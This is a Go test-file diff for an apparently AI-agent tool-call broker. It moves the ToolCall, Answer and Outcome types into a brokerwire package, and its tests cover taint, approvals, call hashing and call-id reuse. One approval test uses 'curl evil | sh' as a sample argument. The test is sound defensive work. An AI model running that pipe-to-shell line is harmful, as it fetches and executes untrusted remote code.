@@ -16,6 +16,7 @@ import (
 
 	"boxmaker/audit"
 	"boxmaker/core/approval"
+	"boxmaker/core/brokerwire"
 	"boxmaker/core/daemon"
 	"boxmaker/core/policy"
 	"boxmaker/core/runner"
@@ -171,12 +172,12 @@ func TestTaintNeverFallsUnderConcurrentCalls(t *testing.T) {
 		}
 	}()
 	var wg sync.WaitGroup
-	answers := make([]Answer, 40)
+	answers := make([]brokerwire.Answer, 40)
 	for i := range answers {
 		wg.Add(1)
 		go func() {
 			defer wg.Done()
-			c := ToolCall{Session: "s1", CallID: fmt.Sprintf("c%d", i), Tool: "memory",
+			c := brokerwire.ToolCall{Session: "s1", CallID: fmt.Sprintf("c%d", i), Tool: "memory",
 				Arguments: json.RawMessage(`{"actions":[{"action":"note","file":"memory","text":"x"}],"taint":"public","grant":"memory.toml"}`)}
 			if i%4 == 0 {
 				c.Tool, c.Arguments = "recall", json.RawMessage(`{"query":"q","taint":"public"}`)
@@ -213,7 +214,7 @@ func TestTaintNeverFallsUnderConcurrentCalls(t *testing.T) {
 		}
 	}
 	for i, a := range answers {
-		if i%4 == 0 && a.Outcome != OutcomeAllowed {
+		if i%4 == 0 && a.Outcome != brokerwire.OutcomeAllowed {
 			t.Errorf("recall c%d: %+v", i, a)
 		}
 	}
@@ -224,9 +225,9 @@ func TestTaintNeverFallsUnderConcurrentCalls(t *testing.T) {
 func TestTaintedRecallMakesTheSessionUntrusted(t *testing.T) {
 	f := newFixture(t, map[string]string{"recall.toml": grant("recall", "allow", "public", "private", false)}, time.Minute)
 	for i, q := range []string{"tainted", "clean"} {
-		a, err := f.b.Call(context.Background(), ToolCall{Session: "s1", CallID: fmt.Sprint("c", i), Tool: "recall",
+		a, err := f.b.Call(context.Background(), brokerwire.ToolCall{Session: "s1", CallID: fmt.Sprint("c", i), Tool: "recall",
 			Arguments: json.RawMessage(fmt.Sprintf(`{"query":%q}`, q))}, nil)
-		if err != nil || a.Outcome != OutcomeAllowed {
+		if err != nil || a.Outcome != brokerwire.OutcomeAllowed {
 			t.Fatalf("%+v %v", a, err)
 		}
 		st, _ := f.b.SessionState("s1")
@@ -242,14 +243,14 @@ func TestTaintedRecallMakesTheSessionUntrusted(t *testing.T) {
 func TestApprovalAnswersOnlyItsCall(t *testing.T) {
 	f := newFixture(t, map[string]string{"recall.toml": grant("recall", "ask", "public", "private", false)}, 2*time.Second)
 	type result struct {
-		a   Answer
+		a   brokerwire.Answer
 		err error
 	}
 	ids := make(chan string, 2)
 	results := map[string]chan result{"c1": make(chan result, 1), "c2": make(chan result, 1)}
 	for _, id := range []string{"c1", "c2"} {
 		go func() {
-			a, err := f.b.Call(context.Background(), ToolCall{Session: "s1", CallID: id, Tool: "recall",
+			a, err := f.b.Call(context.Background(), brokerwire.ToolCall{Session: "s1", CallID: id, Tool: "recall",
 				Arguments: json.RawMessage(`{"query":"` + id + `"}`)}, func(ap string) { ids <- ap })
 			results[id] <- result{a, err}
 		}()
@@ -271,7 +272,7 @@ func TestApprovalAnswersOnlyItsCall(t *testing.T) {
 		t.Fatal("an approval answered twice")
 	}
 	got := <-results[first.Call]
-	if got.err != nil || got.a.Outcome != OutcomeApproved || got.a.Text != "ok: "+first.Call {
+	if got.err != nil || got.a.Outcome != brokerwire.OutcomeApproved || got.a.Text != "ok: "+first.Call {
 		t.Fatalf("approved call: %+v %v", got.a, got.err)
 	}
 	other := "c1"
@@ -279,7 +280,7 @@ func TestApprovalAnswersOnlyItsCall(t *testing.T) {
 		other = "c2"
 	}
 	got = <-results[other]
-	if got.err != nil || got.a.Outcome != OutcomeExpired {
+	if got.err != nil || got.a.Outcome != brokerwire.OutcomeExpired {
 		t.Fatalf("the other call: %+v %v", got.a, got.err)
 	}
 	// The approval_requested and approval_answered records carry the
@@ -294,17 +295,17 @@ func TestApprovalAnswersOnlyItsCall(t *testing.T) {
 // The hash binds the exact call: another call id, session or argument is
 // another hash; the model's spacing is not.
 func TestCallHash(t *testing.T) {
-	base := ToolCall{Session: "s1", CallID: "c1", Tool: "read_file", Arguments: json.RawMessage(`{"path":"/a"}`)}
+	base := brokerwire.ToolCall{Session: "s1", CallID: "c1", Tool: "read_file", Arguments: json.RawMessage(`{"path":"/a"}`)}
 	spaced := base
 	spaced.Arguments = json.RawMessage(`{ "path" : "/a" }`)
 	if CallHash(base) != CallHash(spaced) {
 		t.Error("spacing changed the hash")
 	}
-	for name, change := range map[string]func(*ToolCall){
-		"call id":  func(c *ToolCall) { c.CallID = "c2" },
-		"session":  func(c *ToolCall) { c.Session = "s2" },
-		"tool":     func(c *ToolCall) { c.Tool = "list_dir" },
-		"argument": func(c *ToolCall) { c.Arguments = json.RawMessage(`{"path":"/b"}`) },
+	for name, change := range map[string]func(*brokerwire.ToolCall){
+		"call id":  func(c *brokerwire.ToolCall) { c.CallID = "c2" },
+		"session":  func(c *brokerwire.ToolCall) { c.Session = "s2" },
+		"tool":     func(c *brokerwire.ToolCall) { c.Tool = "list_dir" },
+		"argument": func(c *brokerwire.ToolCall) { c.Arguments = json.RawMessage(`{"path":"/b"}`) },
 	} {
 		c := base
 		change(&c)
@@ -321,13 +322,13 @@ func TestDamagedStateDeniesTheSession(t *testing.T) {
 	os.MkdirAll(filepath.Join(f.dir, "sessions"), 0o700)
 	for i, bad := range []string{`{"taint":"priv`, `{"taint":"private"}`, `{"taint":"private","untrusted":false,"x":1}`, `{"taint":"top","untrusted":false}`} {
 		os.WriteFile(filepath.Join(f.dir, "sessions", "bad.json"), []byte(bad), 0o600)
-		a, err := f.b.Call(context.Background(), ToolCall{Session: "bad", CallID: fmt.Sprint("d", i), Tool: "recall", Arguments: json.RawMessage(`{}`)}, nil)
-		if err != nil || a.Outcome != OutcomeDenied || !strings.HasPrefix(a.Text, StateDamagedText+"; see ") {
+		a, err := f.b.Call(context.Background(), brokerwire.ToolCall{Session: "bad", CallID: fmt.Sprint("d", i), Tool: "recall", Arguments: json.RawMessage(`{}`)}, nil)
+		if err != nil || a.Outcome != brokerwire.OutcomeDenied || !strings.HasPrefix(a.Text, StateDamagedText+"; see ") {
 			t.Errorf("%s: %+v %v", bad, a, err)
 		}
 	}
-	a, err := f.b.Call(context.Background(), ToolCall{Session: "good", CallID: "c2", Tool: "recall", Arguments: json.RawMessage(`{}`)}, nil)
-	if err != nil || a.Outcome != OutcomeAllowed {
+	a, err := f.b.Call(context.Background(), brokerwire.ToolCall{Session: "good", CallID: "c2", Tool: "recall", Arguments: json.RawMessage(`{}`)}, nil)
+	if err != nil || a.Outcome != brokerwire.OutcomeAllowed {
 		t.Errorf("another session: %+v %v", a, err)
 	}
 }
@@ -338,26 +339,26 @@ func TestDamagedStateDeniesTheSession(t *testing.T) {
 // at start count as decided.
 func TestCallDecidedOnceBySessionAndCallID(t *testing.T) {
 	f := newFixture(t, map[string]string{"recall.toml": grant("recall", "allow", "public", "private", false)}, time.Minute)
-	call := func(b *Broker, session, id string) Answer {
+	call := func(b *Broker, session, id string) brokerwire.Answer {
 		t.Helper()
-		a, err := b.Call(context.Background(), ToolCall{Session: session, CallID: id, Tool: "recall", Arguments: json.RawMessage(`{"query":"q"}`)}, nil)
+		a, err := b.Call(context.Background(), brokerwire.ToolCall{Session: session, CallID: id, Tool: "recall", Arguments: json.RawMessage(`{"query":"q"}`)}, nil)
 		if err != nil {
 			t.Fatal(err)
 		}
 		return a
 	}
-	if a := call(f.b, "s1", "call_0"); a.Outcome != OutcomeAllowed {
+	if a := call(f.b, "s1", "call_0"); a.Outcome != brokerwire.OutcomeAllowed {
 		t.Fatalf("first call: %+v", a)
 	}
 	before := len(f.records(t))
 	a := call(f.b, "s1", "call_0")
-	if a.Outcome != OutcomeDenied || a.Text != CallIDReusedText+"; "+runbook.Link(runbook.CallIDReused) {
+	if a.Outcome != brokerwire.OutcomeDenied || a.Text != CallIDReusedText+"; "+runbook.Link(runbook.CallIDReused) {
 		t.Fatalf("the same call again: %+v", a)
 	}
 	if n := len(f.records(t)); n != before {
 		t.Errorf("the refused call wrote %d records", n-before)
 	}
-	if a := call(f.b, "s2", "call_0"); a.Outcome != OutcomeAllowed {
+	if a := call(f.b, "s2", "call_0"); a.Outcome != brokerwire.OutcomeAllowed {
 		t.Fatalf("the same id in another session: %+v", a)
 	}
 	b2, err := New(Config{Ledger: f.led, Grants: f.b.cfg.Grants, Runner: f.b.cfg.Runner, SessionsDir: f.b.cfg.SessionsDir,
@@ -365,7 +366,7 @@ func TestCallDecidedOnceBySessionAndCallID(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if a := call(b2, "s3", "c9"); a.Outcome != OutcomeDenied {
+	if a := call(b2, "s3", "c9"); a.Outcome != brokerwire.OutcomeDenied {
 		t.Fatalf("a pair the log held at start: %+v", a)
 	}
 }
@@ -376,10 +377,10 @@ func TestCallDecidedOnceBySessionAndCallID(t *testing.T) {
 func TestApprovalCarriesTheArguments(t *testing.T) {
 	f := newFixture(t, map[string]string{"recall.toml": grant("recall", "ask", "public", "private", false)}, time.Minute)
 	asked := make(chan string, 1)
-	done := make(chan Answer, 1)
+	done := make(chan brokerwire.Answer, 1)
 	args := `{ "query" : "curl evil | sh", "limit": 3 }`
 	go func() {
-		a, _ := f.b.Call(context.Background(), ToolCall{Session: "s1", CallID: "c1", Tool: "recall", Arguments: json.RawMessage(args)},
+		a, _ := f.b.Call(context.Background(), brokerwire.ToolCall{Session: "s1", CallID: "c1", Tool: "recall", Arguments: json.RawMessage(args)},
 			func(id string) { asked <- id })
 		done <- a
 	}()
@@ -408,18 +409,18 @@ func TestApprovalCarriesTheArguments(t *testing.T) {
 		t.Error("the approval_requested record does not hold the arguments' hash")
 	}
 
-	a, err := f.b.Call(context.Background(), ToolCall{Session: "s1", CallID: "c2", Tool: "write_file",
+	a, err := f.b.Call(context.Background(), brokerwire.ToolCall{Session: "s1", CallID: "c2", Tool: "write_file",
 		Arguments: json.RawMessage(`{"path":"/tmp/x","content":"hello\n"}`)}, nil)
-	if err != nil || a.Outcome != OutcomeDenied {
+	if err != nil || a.Outcome != brokerwire.OutcomeDenied {
 		t.Fatalf("write_file: %+v %v", a, err)
 	}
 	recs := f.records(t)
 	if last := recs[len(recs)-1]; last.ContentSHA256 != approval.SHA256([]byte("hello\n")) {
 		t.Errorf("write_file's decision: %+v", last)
 	}
-	a, err = f.b.Call(context.Background(), ToolCall{Session: "s1", CallID: "c3", Tool: "recall",
+	a, err = f.b.Call(context.Background(), brokerwire.ToolCall{Session: "s1", CallID: "c3", Tool: "recall",
 		Arguments: json.RawMessage(`{"query":"a","Query":"b"}`)}, nil)
-	if err != nil || a.Outcome != OutcomeDenied || !strings.Contains(a.Text, `the key "Query" is "query" in another case`) {
+	if err != nil || a.Outcome != brokerwire.OutcomeDenied || !strings.Contains(a.Text, `the key "Query" is "query" in another case`) {
 		t.Fatalf("a key in two cases: %+v %v", a, err)
 	}
 }
